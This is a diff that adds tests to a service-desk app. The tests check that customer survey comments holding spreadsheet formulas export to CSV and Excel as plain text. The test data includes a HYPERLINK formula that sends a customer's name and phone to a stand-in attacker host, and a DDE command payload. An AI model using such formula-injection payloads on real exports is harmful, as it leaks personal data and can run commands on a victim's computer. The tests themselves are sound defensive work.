@@ -704,3 +704,44 @@ def test_a_host_outside_the_trusted_ones_is_refused(database_url, tmp_path):
     assert bad.status_code == 400 and "evil" not in bad.get_data(as_text=True)
     assert bad.mimetype == "text/plain"
     assert good.status_code == 200
+
+
+# --- exports: what customers type is never run by the manager's spreadsheet -------------------
+
+def test_a_formula_typed_by_a_customer_is_exported_as_text(app, make_ticket):
+    """A survey comment (what anyone with the link types) reaches the manager's follow-up
+    export: it must open as the words typed, not as a formula that sends the row's name and
+    phone elsewhere. Phone numbers (+98...) and signed amounts stay as they are."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from .test_public import Customer
+    ticket = make_ticket("delivered")
+    formula = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Click for details")'
+    customer = Customer(app)
+    customer.get(f"/s/{ticket.public_token}")
+    resp = customer.post(f"/s/{ticket.public_token}", {"csat": "1", "complaint": "1",
+                                                       "comment": formula})
+    assert resp.status_code == 302
+    manager = Browser(app)
+    manager.login("manager1", PASSWORD)
+    url = "/reports/surveys?table=followups&lang=en&format="
+    rows = list(csv.reader(io.StringIO(manager.get(url + "csv").get_data(as_text=True)
+                                       .lstrip("\ufeff"))))
+    assert "'" + formula in rows[1]  # shown as typed, with the quote spreadsheets hide
+    assert not any(cell.startswith(("=", "@")) for cell in rows[1])
+    assert "+989121234567" in rows[1]  # the customer's phone, as stored
+    sheet = load_workbook(io.BytesIO(manager.get(url + "xlsx").get_data())).active
+    cells = [c for c in sheet[2] if c.value == formula]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+@pytest.mark.parametrize("value, runs", [
+    ("=1+1", True), ("@SUM(A1)", True), ("+cmd|' /C calc'!A0", True), ("-2+3", True),
+    ("\t=1", True), ("+989121234567", False), ("-5", False), ("Narges", False),
+    ("1,400,000", False)])
+def test_what_counts_as_a_formula(value, runs):
+    from servicedesk.exports import formula_like
+    assert formula_like(value) is runs
